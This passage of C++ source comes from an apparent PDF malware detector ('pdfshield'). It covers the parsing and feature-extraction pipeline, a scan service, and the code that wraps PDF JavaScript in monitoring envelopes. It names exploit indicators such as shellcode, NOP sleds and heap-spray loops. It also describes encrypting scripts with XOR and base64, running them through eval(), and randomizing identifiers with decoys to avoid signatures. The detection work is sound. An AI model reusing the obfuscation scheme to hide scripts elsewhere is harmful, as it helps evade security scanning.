  phases["feature_extraction_s"] = cpu_timings.feature_extraction_s;
  phases["instrumentation_s"] = cpu_timings.instrumentation_s;
  phases["total_s"] = cpu_timings.total_s();
  j["phase_cpu_seconds"] = std::move(phases);

  support::Json items = support::Json::array();
  for (const BatchDocResult& doc : docs) {
    support::Json d = support::Json::object();
    d["name"] = doc.name;
    d["ok"] = doc.ok;
    if (!doc.error.empty()) d["error"] = doc.error;
    if (doc.timed_out) d["timed_out"] = true;
    d["input_bytes"] = static_cast<std::uint64_t>(doc.input_bytes);
    if (doc.ok) {
      d["output_bytes"] = static_cast<std::uint64_t>(doc.output_bytes);
      d["output_crc32"] = static_cast<std::uint64_t>(doc.output_crc32);
      d["has_javascript"] = doc.has_javascript;
      d["scripts_instrumented"] =
          static_cast<std::uint64_t>(doc.scripts_instrumented);
      d["embedded_documents"] =
          static_cast<std::uint64_t>(doc.embedded_documents);
      d["suspicious"] = doc.suspicious;
      if (doc.detonated) {
        d["detonated"] = true;
        d["malicious"] = doc.malicious;
        d["malscore"] = doc.malscore;
      }
      if (doc.static_skipped) d["static_skipped"] = true;
      if (traced) d["trace_events"] = doc.trace_events;
      d["document_key"] = doc.document_key;
      support::Json f = support::Json::object();
      f["F1_chain_ratio"] = doc.features.js_chain_ratio;
      f["F2_header_obfuscation"] = doc.features.f2();
      f["F3_hex_code_in_keyword"] = doc.features.f3();
      f["F4_empty_objects"] = doc.features.empty_object_count;
      f["F5_encoding_levels"] = doc.features.max_encoding_levels;
      f["binary_sum"] = doc.features.binary_sum();
      d["static_features"] = std::move(f);
      support::Json t = support::Json::object();
      t["parse_decompress_s"] = doc.timings.parse_decompress_s;
      t["feature_extraction_s"] = doc.timings.feature_extraction_s;
      t["instrumentation_s"] = doc.timings.instrumentation_s;
      d["timings"] = std::move(t);
    }
    items.push_back(std::move(d));
  }
  j["docs"] = std::move(items);
  return j;
}

}  // namespace pdfshield::core
