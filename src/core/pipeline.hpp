// Front-end pipeline (paper Fig. 1, left half): parse & decompress ->
// static feature extraction -> document instrumentation -> serialize.
// Phase timings are recorded to reproduce Table X; parse statistics and
// allocation counters feed Table XI.
#pragma once

#include <cstdint>
#include <optional>
#include <string>
#include <string_view>

#include "core/detector.hpp"
#include "core/instrumenter.hpp"
#include "core/static_features.hpp"
#include "jsstatic/report.hpp"
#include "pdf/parser.hpp"
#include "support/arena.hpp"
#include "support/bytes.hpp"
#include "support/rng.hpp"
#include "trace/recorder.hpp"

namespace pdfshield::core {

/// Aggregate per-phase wall times. The measurements themselves now live on
/// the trace spine as phase-span begin/end events; this struct is the
/// summed view (and what trace_replay::phase_timings_from_trace rebuilds
/// from a recorded stream — Table X straight out of the trace).
struct PhaseTimings {
  double parse_decompress_s = 0;
  double feature_extraction_s = 0;
  double instrumentation_s = 0;
  double total_s() const {
    return parse_decompress_s + feature_extraction_s + instrumentation_s;
  }
};

struct FrontEndResult {
  bool ok = false;                 ///< false: input was not parseable PDF
  std::string error;
  pdf::Document document;          ///< instrumented document
  support::Bytes output;           ///< serialized instrumented file
  StaticFeatures features;
  InstrumentationRecord record;
  PhaseTimings timings;
  pdf::ParseStats parse_stats;
  std::size_t streams_decompressed = 0;
  bool has_javascript = false;
  bool password_removed = false;  ///< owner-password protection stripped
  bool incremental_used = false;  ///< output is an incremental update

  /// Embedded PDF documents found inside this one, instrumented in place
  /// (§VI: features and instrumentation cover host and embedded files).
  struct EmbeddedResult {
    std::string name;            ///< "embedded-<object number>"
    int host_object = 0;         ///< stream object in the host document
    StaticFeatures features;
    InstrumentationRecord record;
    jsstatic::Report js_report;  ///< populated when analyze_js is on
  };
  std::vector<EmbeddedResult> embedded;

  /// Static JS analysis over this document's own scripts (embedded
  /// documents carry their own report), merged across all sites. Only
  /// meaningful when FrontEndOptions::analyze_js was set.
  bool js_analyzed = false;
  jsstatic::Report js_report;

  /// Static pre-verdict (empty unless FrontEndOptions::static_preverdict
  /// was set): "suspicious-static" when the w1-weighted static score —
  /// Eq. 1's first summand plus one point per jsstatic indicator fact —
  /// reaches the configured threshold, else "clean-static".
  std::string static_verdict;
  double static_malscore = 0.0;
};

struct FrontEndOptions {
  InstrumenterOptions instrumenter;
  /// Skip serialization (feature-only scans, e.g. for the baselines).
  bool write_output = true;
  /// Serialize as an incremental update (original bytes + appended
  /// instrumented objects, §3.4.5) instead of a full rewrite. Falls back
  /// to a full rewrite for owner-password-encrypted inputs (the base
  /// revision would stay ciphertext).
  bool incremental_update = false;
  /// Run the static JS abstract-interpretation pass (src/jsstatic) over
  /// every reconstructed script during phase 2 and attach the merged
  /// report (plus feature-fire / counter trace events). Default off, so
  /// default reports and traces stay byte-identical.
  bool analyze_js = false;
  jsstatic::Caps jsstatic_caps{};
  /// Emit arena memory counters (bytes used, high water, chunk count) as
  /// trace counter events after the parse phase. Default off so default
  /// trace streams stay byte-identical release to release.
  bool trace_arena_counters = false;
  /// When set (requires analyze_js), FrontEnd computes a static
  /// pre-verdict under this config's w1/threshold and records it as a
  /// DocVerdict trace event ("suspicious-static" / "clean-static").
  std::optional<DetectorConfig> static_preverdict;
};

/// The static analysis & instrumentation component. One instance per
/// installation (it owns the detector-id half of every key).
///
/// Two randomness modes:
///  - Shared-Rng (legacy): constructed with an external `Rng&`, every
///    process() call advances that stream. Key/wrapper bytes then depend
///    on call order, which is fine for a single-threaded deployment.
///  - Self-seeding: constructed without an Rng, each process() call seeds
///    a private Rng with document_seed(detector_id, input). Output is a
///    pure function of (detector id, input bytes) — independent of call
///    order and of scheduling — which is what the batch scanner needs for
///    byte-identical output at any thread count.
class FrontEnd {
 public:
  FrontEnd(support::Rng& rng, std::string detector_id,
           FrontEndOptions options = {});

  /// Self-seeding mode (see class comment).
  explicit FrontEnd(std::string detector_id, FrontEndOptions options = {});

  /// Full pipeline over a candidate document. Const: in self-seeding mode
  /// a FrontEnd is immutable and safe to share across threads (in
  /// shared-Rng mode the referenced Rng still advances).
  FrontEndResult process(support::BytesView input) const;

  /// Same, recording phase-span begin/end events and static feature fires
  /// onto `trace` (null behaves like process()). Events inherit the
  /// recorder's current doc context — set it to the document's name first
  /// to correlate with detector-side events.
  FrontEndResult process(support::BytesView input,
                         trace::Recorder* trace) const;

  /// Same, parsing into a caller-supplied arena. The returned result's
  /// document co-owns the arena; callers that reuse one across documents
  /// (the batch scanner's per-worker arenas) must destroy the previous
  /// result before reset(). A null handle behaves like process(): each
  /// call gets a private arena that dies with its document.
  FrontEndResult process(support::BytesView input, trace::Recorder* trace,
                         support::ArenaHandle arena) const;

  /// The per-document Rng seed used in self-seeding mode: a mix of the
  /// detector id and the input bytes, so two installations never share a
  /// key stream but re-scans of the same file are reproducible.
  static std::uint64_t document_seed(std::string_view detector_id,
                                     support::BytesView input);

  const std::string& detector_id() const { return detector_id_; }

 private:
  FrontEndResult process_impl(support::BytesView input, int depth,
                              support::Rng& rng, trace::Recorder* trace,
                              const support::ArenaHandle& arena) const;
  void process_embedded_documents(FrontEndResult& result, int depth,
                                  support::Rng& rng,
                                  const support::ArenaHandle& arena) const;

  support::Rng* external_rng_ = nullptr;  ///< null in self-seeding mode
  std::string detector_id_;
  FrontEndOptions options_;
};

}  // namespace pdfshield::core
