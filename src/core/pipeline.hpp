// Front-end pipeline (paper Fig. 1, left half): parse & decompress ->
// static feature extraction -> document instrumentation -> serialize.
// Phase timings are recorded to reproduce Table X; parse statistics and
// allocation counters feed Table XI.
#pragma once

#include <string>

#include "core/instrumenter.hpp"
#include "core/static_features.hpp"
#include "pdf/parser.hpp"
#include "support/bytes.hpp"
#include "support/rng.hpp"

namespace pdfshield::core {

struct PhaseTimings {
  double parse_decompress_s = 0;
  double feature_extraction_s = 0;
  double instrumentation_s = 0;
  double total_s() const {
    return parse_decompress_s + feature_extraction_s + instrumentation_s;
  }
};

struct FrontEndResult {
  bool ok = false;                 ///< false: input was not parseable PDF
  std::string error;
  pdf::Document document;          ///< instrumented document
  support::Bytes output;           ///< serialized instrumented file
  StaticFeatures features;
  InstrumentationRecord record;
  PhaseTimings timings;
  pdf::ParseStats parse_stats;
  std::size_t streams_decompressed = 0;
  bool has_javascript = false;
  bool password_removed = false;  ///< owner-password protection stripped
  bool incremental_used = false;  ///< output is an incremental update

  /// Embedded PDF documents found inside this one, instrumented in place
  /// (§VI: features and instrumentation cover host and embedded files).
  struct EmbeddedResult {
    std::string name;            ///< "embedded-<object number>"
    int host_object = 0;         ///< stream object in the host document
    StaticFeatures features;
    InstrumentationRecord record;
  };
  std::vector<EmbeddedResult> embedded;
};

struct FrontEndOptions {
  InstrumenterOptions instrumenter;
  /// Skip serialization (feature-only scans, e.g. for the baselines).
  bool write_output = true;
  /// Serialize as an incremental update (original bytes + appended
  /// instrumented objects, §3.4.5) instead of a full rewrite. Falls back
  /// to a full rewrite for owner-password-encrypted inputs (the base
  /// revision would stay ciphertext).
  bool incremental_update = false;
};

/// The static analysis & instrumentation component. One instance per
/// installation (it owns the detector-id half of every key).
class FrontEnd {
 public:
  FrontEnd(support::Rng& rng, std::string detector_id,
           FrontEndOptions options = {});

  /// Full pipeline over a candidate document.
  FrontEndResult process(support::BytesView input);

  const std::string& detector_id() const { return detector_id_; }

 private:
  FrontEndResult process_impl(support::BytesView input, int depth);
  void process_embedded_documents(FrontEndResult& result, int depth);

  support::Rng& rng_;
  std::string detector_id_;
  FrontEndOptions options_;
};

}  // namespace pdfshield::core
