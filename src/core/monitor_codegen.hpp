// Context-monitoring code generation (paper §III-C, Figure 3, §IV).
//
// For each Javascript snippet the instrumenter produces a replacement
// script that:
//   1. announces JS-context ENTER to the runtime detector over SOAP,
//      authenticated by the two-part random key;
//   2. decrypts the XOR+base64-encrypted original script and runs it via
//      eval() — the encryption enforces control retention against runtime
//      patching attacks (§IV), and eval() leaves no static signature;
//   3. announces EXIT, in a finally-style epilogue that runs even when the
//      original script throws.
//
// Anti-signature measures (§IV "Mimicry Attack"): every identifier is
// freshly randomized per document, statement order is shuffled where
// dataflow allows, junk declarations are interleaved, and decoy copies of
// the monitoring function with fake keys are emitted.
#pragma once

#include <string>

#include "core/keys.hpp"
#include "support/rng.hpp"

namespace pdfshield::core {

/// Position of a script inside a sequentially-invoked chain: sequential
/// scripts share ONE monitoring envelope (enter before the first, exit
/// after the last) to keep overhead low (§III-C).
enum class EnvelopeRole {
  kFull,       ///< enter + exit (singleton script)
  kEnterOnly,  ///< first script of a sequence
  kMiddle,     ///< interior script (encrypted eval only)
  kExitOnly,   ///< last script of a sequence
};

struct MonitorCodegenOptions {
  std::string detector_url = "http://127.0.0.1:8777/pdfshield";
  int decoy_count = 2;        ///< fake monitoring-code copies
  bool junk_statements = true;
};

/// XOR-encrypts `plain` with the key string and base64-encodes the result.
/// The inverse of the generated JS decryptor.
std::string encrypt_script(const std::string& plain, const std::string& key);

/// Reference C++ decryption (tests + de-instrumentation verification).
std::string decrypt_script(const std::string& encoded, const std::string& key);

/// Generates the full replacement script wrapping `original_source`.
std::string generate_monitor_wrapper(const std::string& original_source,
                                     const InstrumentationKey& key,
                                     EnvelopeRole role, support::Rng& rng,
                                     const MonitorCodegenOptions& options = {});

}  // namespace pdfshield::core
