#include "core/pipeline.hpp"

#include <chrono>

#include <set>

#include "core/trace_replay.hpp"
#include "jsstatic/analyzer.hpp"
#include "pdf/crypto.hpp"
#include "support/checksum.hpp"
#include "pdf/writer.hpp"

namespace pdfshield::core {

namespace {

double seconds_since(std::chrono::steady_clock::time_point start) {
  return std::chrono::duration<double>(std::chrono::steady_clock::now() - start)
      .count();
}

void span_begin(trace::Recorder* trace, const char* phase) {
  if (trace) trace->record(trace::PhaseSpan{phase, /*begin=*/true, 0.0});
}

void span_end(trace::Recorder* trace, const char* phase, double elapsed_s) {
  if (trace) trace->record(trace::PhaseSpan{phase, /*begin=*/false, elapsed_s});
}

/// Number of distinct indicator facts the static JS pass established
/// (each contributes one w1-weighted point to the static pre-verdict).
std::size_t indicator_count(const jsstatic::Report& report) {
  std::size_t n = 0;
  if (!report.sinks.empty()) ++n;
  if (report.shellcode) ++n;
  if (report.nop_sled) ++n;
  if (report.heap_spray_loop) ++n;
  if (report.suspicious_api_count() > 0) ++n;
  return n;
}

void emit_jsstatic_events(trace::Recorder& trace,
                          const jsstatic::Report& report) {
  auto counter = [&](const char* name, std::size_t value) {
    trace.record(
        trace::CounterSample{name, static_cast<std::uint64_t>(value)});
  };
  counter("jsstatic.sinks", report.sinks.size());
  counter("jsstatic.suspicious_apis", report.suspicious_api_count());
  counter("jsstatic.longest_string", report.longest_string);
  counter("jsstatic.node_visits", report.node_visits);
  auto fire = [&](const char* feature, const char* why) {
    trace.record(trace::FeatureFire{feature, why, /*in_js=*/false});
  };
  if (report.shellcode) {
    fire("JS:shellcode-string", "folded string carries a shellcode program");
  }
  if (report.nop_sled) {
    fire("JS:nop-sled", "folded string carries a NOP sled");
  }
  if (report.heap_spray_loop) {
    fire("JS:heap-spray-loop", "growth loop with a large constant bound");
  }
}

}  // namespace

FrontEnd::FrontEnd(support::Rng& rng, std::string detector_id,
                   FrontEndOptions options)
    : external_rng_(&rng),
      detector_id_(std::move(detector_id)),
      options_(std::move(options)) {}

FrontEnd::FrontEnd(std::string detector_id, FrontEndOptions options)
    : detector_id_(std::move(detector_id)), options_(std::move(options)) {}

std::uint64_t FrontEnd::document_seed(std::string_view detector_id,
                                      support::BytesView input) {
  // splitmix64 finalizer over the two hashes: plain XOR would cancel for
  // inputs whose hash happens to equal the detector-id hash.
  std::uint64_t z = support::fnv1a64(detector_id) +
                    0x9e3779b97f4a7c15ULL * support::fnv1a64(input);
  z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ULL;
  z = (z ^ (z >> 27)) * 0x94d049bb133111ebULL;
  return z ^ (z >> 31);
}

FrontEndResult FrontEnd::process(support::BytesView input) const {
  return process(input, nullptr);
}

FrontEndResult FrontEnd::process(support::BytesView input,
                                 trace::Recorder* trace) const {
  return process(input, trace, nullptr);
}

FrontEndResult FrontEnd::process(support::BytesView input,
                                 trace::Recorder* trace,
                                 support::ArenaHandle arena) const {
  if (external_rng_) {
    return process_impl(input, 0, *external_rng_, trace, arena);
  }
  support::Rng rng(document_seed(detector_id_, input));
  return process_impl(input, 0, rng, trace, arena);
}

FrontEndResult FrontEnd::process_impl(
    support::BytesView input, int depth, support::Rng& rng,
    trace::Recorder* trace, const support::ArenaHandle& arena) const {
  FrontEndResult result;

  // Phase 1: parse + decompress. Span end events are emitted explicitly at
  // each measurement point (including the error exits) rather than by a
  // scope guard, so the stream always carries the same elapsed value that
  // lands in PhaseTimings.
  auto t0 = std::chrono::steady_clock::now();
  span_begin(trace, trace_replay::kPhaseParseDecompress);
  EncodingLevels levels;
  try {
    result.document = pdf::parse_document(input, &result.parse_stats, arena);
    // Owner-password protection (§III-A): the document opens with an empty
    // user password but refuses modification — remove it so instrumentation
    // can proceed.
    if (pdf::is_encrypted(result.document)) {
      result.password_removed =
          pdf::decrypt_document(result.document, /*user_password=*/"");
      if (!result.password_removed) {
        result.error = "encrypted document: user password required";
        result.timings.parse_decompress_s = seconds_since(t0);
        span_end(trace, trace_replay::kPhaseParseDecompress,
                 result.timings.parse_decompress_s);
        return result;
      }
    }
    levels = snapshot_encoding_levels(result.document);
    result.streams_decompressed = result.document.decompress_all();
  } catch (const support::Error& e) {
    result.error = e.what();
    result.timings.parse_decompress_s = seconds_since(t0);
    span_end(trace, trace_replay::kPhaseParseDecompress,
             result.timings.parse_decompress_s);
    return result;
  }
  result.timings.parse_decompress_s = seconds_since(t0);
  span_end(trace, trace_replay::kPhaseParseDecompress,
           result.timings.parse_decompress_s);
  if (options_.trace_arena_counters && trace && result.document.arena()) {
    const support::Arena& doc_arena = *result.document.arena();
    auto counter = [&](const char* name, std::uint64_t value) {
      trace->record(trace::CounterSample{name, value});
    };
    counter("arena.bytes_used", doc_arena.bytes_used());
    counter("arena.high_water", doc_arena.high_water());
    counter("arena.chunks", doc_arena.chunk_count());
  }

  // Phase 2: static feature extraction.
  t0 = std::chrono::steady_clock::now();
  span_begin(trace, trace_replay::kPhaseFeatureExtraction);
  const JsChainAnalysis chains = analyze_js_chains(result.document);
  result.features = extract_static_features(result.document, chains, &levels);
  result.has_javascript = chains.has_javascript();
  if (options_.analyze_js) {
    std::vector<std::string> sources;
    sources.reserve(chains.sites.size());
    for (const JsSite& site : chains.sites) sources.push_back(site.source);
    result.js_report =
        jsstatic::analyze_scripts(sources, options_.jsstatic_caps);
    result.js_analyzed = true;
  }
  result.timings.feature_extraction_s = seconds_since(t0);
  span_end(trace, trace_replay::kPhaseFeatureExtraction,
           result.timings.feature_extraction_s);
  if (trace) trace_replay::emit_static_feature_fires(*trace, result.features);
  if (result.js_analyzed) {
    if (trace) emit_jsstatic_events(*trace, result.js_report);
    if (options_.static_preverdict) {
      const DetectorConfig& cfg = *options_.static_preverdict;
      result.static_malscore =
          cfg.w1 * static_cast<double>(result.features.binary_sum() +
                                       indicator_count(result.js_report));
      result.static_verdict = result.static_malscore >= cfg.threshold
                                  ? "suspicious-static"
                                  : "clean-static";
      if (trace) {
        trace->record(trace::DocVerdict{result.static_verdict,
                                        result.static_malscore,
                                        /*alerted=*/false});
      }
    }
  }

  // Phase 3: instrumentation (+ serialization). Embedded PDF documents
  // are instrumented recursively before the host is serialized (§VI).
  t0 = std::chrono::steady_clock::now();
  span_begin(trace, trace_replay::kPhaseInstrumentation);
  Instrumenter instrumenter(rng, detector_id_, options_.instrumenter);
  result.record = instrumenter.instrument(result.document);
  if (depth < 2) process_embedded_documents(result, depth, rng, arena);
  if (options_.write_output) {
    // Incremental mode appends only the instrumented objects to the
    // original bytes — the paper's fast path for large documents.
    if (options_.incremental_update && !result.password_removed &&
        !result.record.already_instrumented) {
      std::set<int> changed;
      for (const auto& entry : result.record.entries) {
        changed.insert(entry.object_num);
        changed.insert(entry.code_object);
      }
      for (const auto& emb : result.embedded) changed.insert(emb.host_object);
      changed.erase(0);
      if (!changed.empty()) {
        result.output =
            pdf::write_incremental_update(input, result.document, changed);
        result.incremental_used = true;
      }
    }
    if (result.output.empty()) {
      result.output = pdf::write_document(result.document);
    }
  }
  result.timings.instrumentation_s = seconds_since(t0);
  span_end(trace, trace_replay::kPhaseInstrumentation,
           result.timings.instrumentation_s);

  result.ok = true;
  return result;
}

void FrontEnd::process_embedded_documents(
    FrontEndResult& result, int depth, support::Rng& rng,
    const support::ArenaHandle& arena) const {
  for (auto& [num, obj] : result.document.objects()) {
    if (!obj.is_stream()) continue;
    pdf::Stream& stream = obj.as_stream();
    const pdf::Object* type = stream.dict.find("Type");
    if (!type || !type->is_name() || type->as_name().value != "EmbeddedFile") {
      continue;
    }
    // Only payloads that are themselves PDFs are instrumented.
    if (support::as_view(stream.data).find("%PDF") == std::string_view::npos) {
      continue;
    }
    // Embedded documents run untraced: their phase times are already part
    // of the host's instrumentation span, and double-emitting would skew
    // the replayed Table-X sums.
    // Embedded documents parse into the same arena as the host: their
    // Document dies inside this loop iteration, well before any reset.
    FrontEndResult sub =
        process_impl(stream.data, depth + 1, rng, nullptr, arena);
    if (!sub.ok) continue;
    FrontEndResult::EmbeddedResult embedded;
    embedded.name = "embedded-" + std::to_string(num);
    embedded.host_object = num;
    embedded.features = sub.features;
    embedded.record = sub.record;
    embedded.js_report = sub.js_report;
    result.embedded.push_back(std::move(embedded));
    for (auto& nested : sub.embedded) result.embedded.push_back(std::move(nested));
    stream.data = std::move(sub.output);
    stream.dict.set("Length",
                    pdf::Object(static_cast<std::int64_t>(stream.data.size())));
    result.has_javascript = result.has_javascript || sub.has_javascript;
  }
}

}  // namespace pdfshield::core
