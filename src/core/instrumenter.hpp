// Static document instrumentation (paper §III-C) and de-instrumentation
// (§III-F).
//
// For every trigger-associated Javascript chain, the original script is
// replaced in place by a context monitoring wrapper (see monitor_codegen).
// Sequentially invoked scripts (/Next, /Names) share a single envelope.
// Literal script arguments of the Table-IV methods (Doc.addScript,
// Doc.setAction, Doc.setPageAction, Field.setAction, Bookmark.setAction)
// and of app.setTimeOut/setInterval are instrumented recursively, closing
// the staged-attack and delayed-execution holes of §IV.
#pragma once

#include <optional>
#include <string>
#include <vector>

#include "core/jschain.hpp"
#include "core/keys.hpp"
#include "core/monitor_codegen.hpp"
#include "pdf/document.hpp"
#include "support/rng.hpp"

namespace pdfshield::core {

/// De-instrumentation specification: enough to restore the document
/// byte-for-byte at the Javascript level once it is classified benign.
struct InstrumentationRecord {
  InstrumentationKey key;
  struct Entry {
    int object_num = 0;      ///< Object whose /JS was replaced.
    bool in_stream = false;  ///< Replacement stored into a stream's data.
    int code_object = 0;     ///< Object holding the code.
    std::string original;    ///< Original Javascript source.
  };
  std::vector<Entry> entries;
  bool already_instrumented = false;  ///< Duplicate-instrumentation guard hit.
};

/// Serializes a record to the sidecar format the de-instrumentation job
/// consumes ("de-instrumentation specifications", §III-F). Line-based,
/// originals base64-encoded.
std::string serialize_record(const InstrumentationRecord& record);

/// Parses a serialized record; nullopt on malformed input.
std::optional<InstrumentationRecord> parse_record(const std::string& text);

struct InstrumenterOptions {
  MonitorCodegenOptions codegen;
  /// Instrument non-triggered chains too (off by default, as in the paper:
  /// only chains tied to a triggering action can execute).
  bool include_untriggered = false;
};

class Instrumenter {
 public:
  /// `detector_id` is the per-installation half of every key.
  Instrumenter(support::Rng& rng, std::string detector_id,
               InstrumenterOptions options = {});

  /// Instruments `doc` in place. The per-document key is generated here and
  /// returned in the record (the caller registers it with the detector).
  InstrumentationRecord instrument(pdf::Document& doc);

  /// Restores the original scripts.
  static void deinstrument(pdf::Document& doc,
                           const InstrumentationRecord& record);

  /// Rewrites literal script arguments of dynamic-script methods inside a
  /// Javascript source (exposed for tests).
  std::string instrument_dynamic_literals(const std::string& source,
                                          const InstrumentationKey& key);

 private:
  void replace_script(pdf::Document& doc, const JsSite& site,
                      const std::string& replacement);

  support::Rng& rng_;
  std::string detector_id_;
  InstrumenterOptions options_;
};

}  // namespace pdfshield::core
