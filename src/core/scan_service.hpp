// Serve-mode scan service (long-lived daemon core). Where the batch
// scanner walks a directory once and exits, a ScanService accepts an
// unbounded *stream* of scan requests — from the spool watcher, the
// local-socket endpoint, or an in-process caller — and keeps the
// per-worker FrontEnd + arena-reuse steady state of the batch path warm
// across the whole process lifetime.
//
// Three mechanisms turn the one-shot scanner into something that survives
// production traffic:
//
//  1. Work-stealing scheduling: each worker owns a deque of admitted
//     documents; an idle worker steals one document from a loaded
//     sibling, so a burst of decompression bombs landing on one deque
//     delays that deque's documents, not the whole service.
//  2. Admission control: the service bounds admitted-but-unfinished work
//     in documents AND bytes. Anything beyond the bound is rejected
//     immediately with `rejected: overloaded` — a bounded, explicit
//     answer instead of an unbounded queue and a timeout.
//  3. Graceful degradation: when the scheduler backlog crosses
//     `degrade_depth`, the service enters static-only degradation — the
//     jsstatic prefilter runs on every admitted document and statically
//     proven-clean ones skip detonation (exactly the --static-prefilter
//     contract, so degraded verdicts are verdict-preserving by
//     construction). The backlog draining below `restore_depth` restores
//     full detonation. Every transition and every admission decision is
//     a typed event on the trace spine.
//
// Verdicts are byte-identical to a one-shot `batch` over the same inputs
// at any worker count: both paths funnel through core::run_document and
// the self-seeding FrontEnd.
#pragma once

#include <atomic>
#include <chrono>
#include <cstdint>
#include <functional>
#include <memory>
#include <string>
#include <vector>

#include "core/batch_scanner.hpp"
#include "support/arena.hpp"
#include "support/bytes.hpp"
#include "support/work_stealing_pool.hpp"
#include "trace/recorder.hpp"

namespace pdfshield::core {

struct ServeOptions {
  std::size_t jobs = 1;
  /// Admission bounds on admitted-but-unfinished work; a request that
  /// would exceed either is rejected with reason "overloaded".
  /// 0 => 8 * jobs documents / 256 MiB.
  std::size_t max_inflight_docs = 0;
  std::size_t max_inflight_bytes = 0;
  /// A single document larger than this is rejected with reason
  /// "oversized" (it could never be admitted); 0 => max_inflight_bytes.
  std::size_t max_doc_bytes = 0;
  /// Degradation ladder: enter static-only degradation when the scheduler
  /// backlog (admitted, not yet started) reaches `degrade_depth`; restore
  /// full detonation when it falls back to `restore_depth`. 0 =>
  /// 4 * jobs and 2 * jobs respectively.
  std::size_t degrade_depth = 0;
  std::size_t restore_depth = 0;
  /// Pin the service in static-only degradation (tests, and deployments
  /// that want the prefilter unconditionally).
  bool force_degraded = false;
  /// Per-installation detector id; empty derives the same fixed default
  /// as the batch scanner, so serve and batch verdicts are comparable.
  std::string detector_id;
  FrontEndOptions frontend;
  /// Detonate each document for a runtime verdict (the serve default —
  /// a verdict service that never detonates is just `scan`).
  bool detonate = true;
  /// Run the jsstatic prefilter on every document even when not degraded.
  bool static_prefilter = false;
  /// JSONL trace output path; empty disables tracing. Admission and
  /// degradation events land on the same stream as every document's
  /// front-end/detonation events.
  std::string trace_path;
};

/// One response per submitted request — exactly one, whether the request
/// was scanned, errored, or rejected at admission.
struct ScanResponse {
  std::string name;
  bool accepted = false;
  std::string reject_reason;  ///< "overloaded" / "oversized" when rejected
  /// Scan outcome (meaningful only when accepted).
  BatchDocResult doc;
  /// The document was handled under static-only degradation.
  bool degraded = false;
  double latency_s = 0;  ///< submit-to-response wall time

  /// One-line JSON — the wire answer of the socket and spool endpoints.
  std::string to_jsonl() const;
};

struct ServeStats {
  std::uint64_t submitted = 0;
  std::uint64_t accepted = 0;
  std::uint64_t rejected = 0;
  std::uint64_t completed = 0;
  std::uint64_t errors = 0;
  std::uint64_t malicious = 0;
  std::uint64_t static_skipped = 0;
  std::uint64_t degraded_docs = 0;   ///< documents handled while degraded
  std::uint64_t degrade_enters = 0;  ///< ladder transitions into degraded
  std::uint64_t steals = 0;          ///< scheduler tasks that migrated
  bool degraded_now = false;
};

class ScanService {
 public:
  using Callback = std::function<void(const ScanResponse&)>;

  explicit ScanService(ServeOptions options = {});
  /// Drains: blocks until every admitted document has completed.
  ~ScanService();

  ScanService(const ScanService&) = delete;
  ScanService& operator=(const ScanService&) = delete;

  /// Admission-controlled asynchronous submit. `data` must stay valid
  /// until the callback runs; `pin` (may be null) is released with the
  /// request and is how mmap'd spool files stay alive exactly as long as
  /// a worker can still touch them. The callback runs exactly once: on a
  /// worker thread after the scan, or synchronously right here when the
  /// request is rejected (returns false) — so every request gets exactly
  /// one answer through one channel.
  bool submit(std::string name, support::BytesView data,
              std::shared_ptr<const void> pin, Callback done);

  /// Convenience for owning submissions (copies nothing; moves the buffer
  /// into the pin).
  bool submit(std::string name, support::Bytes data, Callback done);

  /// Blocks until all admitted documents have completed. The service
  /// stays usable afterwards (a drain is not a shutdown).
  void drain();

  ServeStats stats() const;
  bool degraded() const { return degraded_.load(std::memory_order_relaxed); }
  const std::string& detector_id() const { return options_.detector_id; }

 private:
  void run_request(std::size_t worker, const std::string& name,
                   support::BytesView data,
                   std::chrono::steady_clock::time_point submitted_at,
                   const Callback& done);
  void note_started();  ///< backlog bookkeeping + degradation ladder
  void update_degradation(std::size_t backlog);

  ServeOptions options_;
  BatchRunContext ctx_;  ///< sinks + session shared by all workers
  /// Per-worker front-ends: the configured one, and one with the jsstatic
  /// pass forced on for documents handled under the prefilter/degraded
  /// path. Both are immutable and self-seeding, so which one runs never
  /// changes instrumented bytes — only whether a clean proof is attempted.
  std::vector<FrontEnd> frontends_;
  std::vector<FrontEnd> frontends_analyzing_;
  std::vector<support::ArenaHandle> arenas_;
  std::unique_ptr<trace::Recorder> recorder_;  ///< service-level events
  std::unique_ptr<support::WorkStealingPool> pool_;

  mutable std::mutex admission_mutex_;  ///< guards the two inflight counts
  std::size_t inflight_docs_ = 0;
  std::size_t inflight_bytes_ = 0;
  std::atomic<std::size_t> backlog_{0};  ///< admitted, not yet started
  std::atomic<bool> degraded_{false};

  std::atomic<std::uint64_t> submitted_{0};
  std::atomic<std::uint64_t> accepted_{0};
  std::atomic<std::uint64_t> rejected_{0};
  std::atomic<std::uint64_t> completed_{0};
  std::atomic<std::uint64_t> errors_{0};
  std::atomic<std::uint64_t> malicious_{0};
  std::atomic<std::uint64_t> static_skipped_{0};
  std::atomic<std::uint64_t> degraded_docs_{0};
  std::atomic<std::uint64_t> degrade_enters_{0};
};

}  // namespace pdfshield::core
