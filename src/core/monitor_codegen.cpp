#include "core/monitor_codegen.hpp"

#include "support/encoding.hpp"

namespace pdfshield::core {

std::string encrypt_script(const std::string& plain, const std::string& key) {
  support::Bytes data(plain.begin(), plain.end());
  for (std::size_t i = 0; i < data.size(); ++i) {
    data[i] ^= static_cast<std::uint8_t>(key[i % key.size()]);
  }
  return support::base64_encode(data);
}

std::string decrypt_script(const std::string& encoded, const std::string& key) {
  support::Bytes data = support::base64_decode(encoded);
  for (std::size_t i = 0; i < data.size(); ++i) {
    data[i] ^= static_cast<std::uint8_t>(key[i % key.size()]);
  }
  return std::string(data.begin(), data.end());
}

namespace {

/// Escapes a string into a single-quoted JS literal.
std::string js_quote(const std::string& s) {
  std::string out = "'";
  for (char c : s) {
    switch (c) {
      case '\'': out += "\\'"; break;
      case '\\': out += "\\\\"; break;
      case '\n': out += "\\n"; break;
      case '\r': out += "\\r"; break;
      default:
        if (static_cast<unsigned char>(c) < 0x20) {
          static const char kHex[] = "0123456789abcdef";
          out += "\\x";
          out += kHex[(static_cast<unsigned char>(c) >> 4) & 0xf];
          out += kHex[static_cast<unsigned char>(c) & 0xf];
        } else {
          out.push_back(c);
        }
    }
  }
  out.push_back('\'');
  return out;
}

/// The base64+XOR decryptor with randomized identifiers. Written against
/// the ES3 subset every Acrobat version (and our engine) supports.
/// Characters accumulate in an array joined once at the end — linear
/// allocation, so the monitoring code itself never trips the detector's
/// own memory-consumption feature.
std::string decryptor_source(const std::string& fn_name, support::Rng& rng) {
  const std::string alpha = rng.identifier(6);
  const std::string input = rng.identifier(5);
  const std::string keyv = rng.identifier(5);
